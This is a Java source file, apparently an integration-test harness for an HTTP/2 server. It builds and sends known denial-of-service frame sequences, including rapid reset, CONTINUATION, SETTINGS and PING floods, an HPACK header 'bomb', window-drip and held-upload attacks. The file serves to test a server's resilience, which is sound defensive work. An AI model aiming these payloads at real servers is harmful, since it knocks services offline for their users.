package io.phalanx.it.hostile;

import static io.phalanx.it.hostile.Frames.CONTINUATION;
import static io.phalanx.it.hostile.Frames.DATA;
import static io.phalanx.it.hostile.Frames.END_HEADERS;
import static io.phalanx.it.hostile.Frames.END_STREAM;
import static io.phalanx.it.hostile.Frames.HEADERS;
import static io.phalanx.it.hostile.Frames.INITIAL_WINDOW_SIZE;
import static io.phalanx.it.hostile.Frames.PING;
import static io.phalanx.it.hostile.Frames.RST_STREAM;
import static io.phalanx.it.hostile.Frames.SETTINGS;
import static io.phalanx.it.hostile.Frames.WINDOW_UPDATE;

import java.io.BufferedInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.net.Socket;
import java.util.List;
import java.util.function.BiConsumer;

/** What clients of HTTP/2 can do to a node. */
final class FrameAttacks {
  private static final int CANCEL = 8;
  private static final int BATCH = 1000;
  private static final int STREAMS = 100;
  private static final int MOST_STREAMS = 250;
  private static final int BOMBS = 50;
  private static final int NAME_BYTES = 16_000;

  private static final byte[] RESETS =
      repeated((frames, id) -> frames.get(id, "/").number(RST_STREAM, id, CANCEL));
  private static final byte[] PROVOKED =
      repeated((frames, id) -> frames.get(id, "/").number(WINDOW_UPDATE, id, 0));
  private static final byte[] CONTINUATIONS =
      flood(
          new Frames().frame(HEADERS, END_STREAM, 1),
          (frames, _) -> frames.frame(CONTINUATION, 0, 1));
  private static final byte[] SETTINGS_FLOOD =
      flood(new Frames(), (frames, _) -> frames.frame(SETTINGS, 0, 0));
  private static final byte[] PINGS =
      flood(new Frames(), (frames, _) -> frames.frame(PING, 0, 0, new byte[8]));
  private static final byte[] EMPTY_DATA =
      flood(new Frames().post(1), (frames, _) -> frames.frame(DATA, 0, 1));
  private static final byte[] DRIPS = drips();
  private static final byte[] BOMB = bomb();
  private static final byte[] LARGE_HEAD = largeHead();
  private static final byte[] HELD_UPLOADS = heldUploads();

  private FrameAttacks() {}

  private static byte[] repeated(BiConsumer<Frames, Integer> frames) {
    Frames all = Frames.preface();
    for (int i = 0; i < BATCH; i++) {
      frames.accept(all, 2 * i + 1);
    }
    return all.bytes();
  }

  private static byte[] flood(Frames begin, BiConsumer<Frames, Integer> frame) {
    var all = new ByteArrayOutputStream();
    all.writeBytes(Frames.preface().bytes());
    all.writeBytes(begin.bytes());
    var flood = new Frames();
    for (int i = 0; i < 10 * BATCH; i++) {
      frame.accept(flood, i);
    }
    all.writeBytes(flood.bytes());
    return all.toByteArray();
  }

  /** One more byte of the window for each of many streams. */
  private static byte[] drips() {
    var frames = new Frames();
    for (int i = 0; i < STREAMS; i++) {
      frames.number(WINDOW_UPDATE, 2 * i + 1, 1);
    }
    return frames.bytes();
  }

  /** One field of 4,000 bytes, then in each head ever the same byte that points at it. */
  private static byte[] bomb() {
    var entry = new ByteArrayOutputStream();
    entry.writeBytes(Frames.request("GET", "/"));
    entry.write(0x40);
    Frames.string(entry, "x");
    Frames.string(entry, "v".repeat(4000));
    Frames frames = Frames.preface();
    for (int i = 0; i < BOMBS; i++) {
      var block = new ByteArrayOutputStream();
      block.writeBytes(entry.toByteArray());
      while (block.size() < 16_384) {
        block.write(0xbe);
      }
      frames.frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block.toByteArray());
    }
    return frames.bytes();
  }

  /** Within what a head may have, and without an end. */
  private static byte[] largeHead() {
    Frames frames = Frames.preface().frame(HEADERS, END_STREAM, 1, Frames.request("GET", "/"));
    for (int i = 0; i < 55; i++) {
      frames.frame(CONTINUATION, 0, 1, new byte[16_384]);
    }
    return frames.bytes();
  }

  private static Onslaught.Script send(byte[] bytes) {
    return (on, socket) -> {
      Onslaught.watch(socket);
      on.send(socket, bytes);
      Onslaught.awaitEnd(socket);
    };
  }

  static Onslaught.Script rapidReset() {
    return send(RESETS);
  }

  static Onslaught.Script madeYouReset() {
    return send(PROVOKED);
  }

  static Onslaught.Script continuations() {
    return send(CONTINUATIONS);
  }

  static Onslaught.Script settings() {
    return send(SETTINGS_FLOOD);
  }

  static Onslaught.Script pings() {
    return send(PINGS);
  }

  static Onslaught.Script emptyData() {
    return send(EMPTY_DATA);
  }

  static Onslaught.Script bombs() {
    return send(BOMB);
  }

  static Onslaught.Script largeHeads() {
    return send(LARGE_HEAD);
  }

  /** Big answers of which nothing is taken; over when the first of them is given up. */
  static void closedWindows(Onslaught on, Socket socket) throws IOException {
    begin(on, socket, 0);
    awaitReset(socket);
  }

  /** Big answers that are taken byte by byte. */
  static void drippingWindows(Onslaught on, Socket socket) throws IOException {
    Onslaught.watch(socket);
    begin(on, socket, 0);
    while (on.goesOn()) {
      on.send(socket, DRIPS);
    }
  }

  /** Names of fields that nobody has seen yet. */
  static void newNames(Onslaught on, Socket socket) throws IOException {
    Onslaught.watch(socket);
    on.send(socket, Frames.preface().bytes());
    String padding = "a".repeat(NAME_BYTES);
    for (int stream = 1; on.goesOn(); stream += 2) {
      var block = new ByteArrayOutputStream();
      block.writeBytes(Frames.request("GET", "/"));
      block.writeBytes(Frames.block(List.of("x" + on.number() + padding, "a")));
      on.send(
          socket,
          new Frames()
              .frame(HEADERS, END_HEADERS | END_STREAM, stream, block.toByteArray())
              .bytes());
    }
  }

  /** As many requests as a connection may have at a time, to a server that lets nobody in. */
  static void requestsNobodyTakes(Onslaught on, Socket socket) throws IOException {
    Frames frames = Frames.preface();
    for (int i = 0; i < MOST_STREAMS; i++) {
      frames.get(2 * i + 1, Silence.PATH);
    }
    on.send(socket, frames.bytes());
    Onslaught.awaitEnd(socket);
  }

  /** As much as a connection's windows allow, to a server that lets nobody in. */
  static void uploadsNobodyTakes(Onslaught on, Socket socket) throws IOException {
    on.send(socket, HELD_UPLOADS);
    awaitReset(socket);
  }

  private static void awaitReset(Socket socket) throws IOException {
    var in = new DataInputStream(new BufferedInputStream(socket.getInputStream()));
    int type = SETTINGS;
    while (type != RST_STREAM) {
      int lengthAndType = in.readInt();
      in.skipNBytes(Byte.BYTES + Integer.BYTES + (lengthAndType >>> 8));
      type = lengthAndType & 0xff;
    }
  }

  private static byte[] heldUploads() {
    Frames frames = Frames.preface();
    for (int stream = 1; stream < 30; stream += 2) {
      frames.frame(HEADERS, END_HEADERS, stream, Frames.request("POST", Silence.PATH));
      for (int i = 0; i < 8; i++) {
        frames.frame(DATA, 0, stream, new byte[16_384]);
      }
    }
    return frames.bytes();
  }

  private static void begin(Onslaught on, Socket socket, int window) throws IOException {
    Frames frames = Frames.preface(INITIAL_WINDOW_SIZE, window);
    for (int i = 0; i < STREAMS; i++) {
      frames.get(2 * i + 1, "/big");
    }
    on.send(socket, frames.bytes());
  }

  /** Bodies of which each byte has its frame. */
  static void tinyData(Onslaught on, Socket socket) throws IOException {
    Onslaught.watch(socket);
    on.send(socket, Frames.preface().bytes());
    for (int stream = 1; on.goesOn(); stream += 2) {
      var frames = new Frames().post(stream);
      for (int i = 0; i < 10 * BATCH; i++) {
        frames.frame(DATA, 0, stream, (byte) 'a');
      }
      on.send(socket, frames.frame(DATA, END_STREAM, stream).bytes());
    }
  }
}
